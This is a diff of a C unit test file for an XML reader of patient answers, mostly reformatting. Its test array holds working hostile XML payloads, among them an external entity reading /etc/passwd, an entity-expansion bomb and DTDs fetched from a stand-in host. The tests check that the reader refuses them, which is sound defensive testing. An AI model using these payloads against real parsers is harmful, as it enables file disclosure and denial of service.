@@ -1,9 +1,9 @@
 /* check_xml.c: hostile XML is refused with a clear message; malformed files lose only the
  * patients after the fault. */
-#include "read_native.h"
-#include "reader.h"
 #include "content.h"
 #include "helpers.h"
+#include "read_native.h"
+#include "reader.h"
 #include "util.h"
 #include "xml.h"
 
@@ -12,20 +12,24 @@
 #include <string.h>
 
 static const char *const hostile[] = {
-	/* external entity (XXE) */
-	"<?xml version=\"1.0\"?>\n<!DOCTYPE patients [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>\n"
-	"<patients><patient id=\"X\"><name>&x;</name><answers><answer q=\"pain-score\">1</answer></answers></patient></patients>\n",
-	/* entity expansion bomb */
-	"<?xml version=\"1.0\"?>\n<!DOCTYPE patients [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">"
-	"<!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\">"
-	"<!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\"><!ENTITY f \"&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;\">]>\n"
-	"<patients><patient id=\"X\"><name>&f;&f;&f;&f;</name><answers><answer q=\"pain-score\">1</answer></answers></patient></patients>\n",
-	/* network DTD */
-	"<?xml version=\"1.0\"?>\n<!DOCTYPE patients SYSTEM \"http://192.0.2.1/evil.dtd\">\n"
-	"<patients><patient id=\"X\"><answers><answer q=\"pain-score\">1</answer></answers></patient></patients>\n",
-	/* external parameter entity */
-	"<?xml version=\"1.0\"?>\n<!DOCTYPE patients [<!ENTITY % p SYSTEM \"http://192.0.2.1/p.dtd\"> %p;]>\n"
-	"<patients/>\n",
+    /* external entity (XXE) */
+    "<?xml version=\"1.0\"?>\n<!DOCTYPE patients [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>\n"
+    "<patients><patient id=\"X\"><name>&x;</name><answers><answer "
+    "q=\"pain-score\">1</answer></answers></patient></patients>\n",
+    /* entity expansion bomb */
+    "<?xml version=\"1.0\"?>\n<!DOCTYPE patients [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b "
+    "\"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">"
+    "<!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\">"
+    "<!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\"><!ENTITY f \"&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;\">]>\n"
+    "<patients><patient id=\"X\"><name>&f;&f;&f;&f;</name><answers><answer "
+    "q=\"pain-score\">1</answer></answers></patient></patients>\n",
+    /* network DTD */
+    "<?xml version=\"1.0\"?>\n<!DOCTYPE patients SYSTEM \"http://192.0.2.1/evil.dtd\">\n"
+    "<patients><patient id=\"X\"><answers><answer "
+    "q=\"pain-score\">1</answer></answers></patient></patients>\n",
+    /* external parameter entity */
+    "<?xml version=\"1.0\"?>\n<!DOCTYPE patients [<!ENTITY % p SYSTEM \"http://192.0.2.1/p.dtd\"> %p;]>\n"
+    "<patients/>\n",
 };
 
 START_TEST(hostile_xml_refused)
@@ -36,8 +40,8 @@ START_TEST(hostile_xml_refused)
 	capture_stop();
 	ck_assert_ptr_null(r);
 	ck_assert_msg(strstr(captured(), "DOCTYPE declarations are not accepted") != NULL ||
-			      strstr(captured(), "refused to load external resource") != NULL,
-		      "case %d: %s", _i, captured());
+	                  strstr(captured(), "refused to load external resource") != NULL,
+	              "case %d: %s", _i, captured());
 	ck_assert_msg(strstr(captured(), "root:") == NULL, "leaked /etc/passwd: %s", captured());
 }
 END_TEST
@@ -63,8 +67,13 @@ START_TEST(malformed_patient_keeps_earlier_ones)
 	strbuf xml = {0};
 	sb_append(&xml, "<?xml version=\"1.0\"?>\n<patients>\n");
 	for (int i = 0; i < 100; i++)
-		sb_printf(&xml, "<patient id=\"OK%d\"><answers><answer q=\"pain-score\">1</answer></answers></patient>\n", i);
-	sb_append(&xml, "<patient id=\"BAD\"><answers><answer q=\"pain-score\">1</answers></patient>\n</patients>\n");
+		sb_printf(
+		    &xml,
+		    "<patient id=\"OK%d\"><answers><answer q=\"pain-score\">1</answer></answers></patient>\n",
+		    i);
+	sb_append(
+	    &xml,
+	    "<patient id=\"BAD\"><answers><answer q=\"pain-score\">1</answers></patient>\n</patients>\n");
 	const char *path = write_temp("broken.xml", xml.data);
 	sb_free(&xml);
 	capture_start();
@@ -80,7 +89,8 @@ START_TEST(malformed_patient_keeps_earlier_ones)
 	capture_stop();
 	ck_assert_int_ge(good, 95);
 	ck_assert(reader_failed(r));
-	ck_assert_msg(strstr(captured(), "broken.xml:103: Opening and ending tag mismatch") != NULL, "%s", captured());
+	ck_assert_msg(strstr(captured(), "broken.xml:103: Opening and ending tag mismatch") != NULL, "%s",
+	              captured());
 	reader_close(r);
 }
 END_TEST
@@ -91,14 +101,16 @@ START_TEST(missing_file_reported)
 	xnode *n = xml_load("/nonexistent/answers.xml", NULL);
 	capture_stop();
 	ck_assert_ptr_null(n);
-	ck_assert_ptr_nonnull(strstr(captured(), "/nonexistent/answers.xml: cannot open: No such file or directory"));
+	ck_assert_ptr_nonnull(
+	    strstr(captured(), "/nonexistent/answers.xml: cannot open: No such file or directory"));
 }
 END_TEST
 
 START_TEST(namespaces_and_text_read)
 {
-	const char *path = write_temp("ns.xml", "<?xml version=\"1.0\"?>\n<r xmlns=\"http://hl7.org/fhir\" a=\"1\">\n"
-						"  <k v=\"x\">one &amp; <![CDATA[two]]></k>\n</r>\n");
+	const char *path =
+	    write_temp("ns.xml", "<?xml version=\"1.0\"?>\n<r xmlns=\"http://hl7.org/fhir\" a=\"1\">\n"
+	                         "  <k v=\"x\">one &amp; <![CDATA[two]]></k>\n</r>\n");
 	xnode *n = xml_load(path, NULL);
 	ck_assert_ptr_nonnull(n);
 	ck_assert_str_eq(n->name, "r");
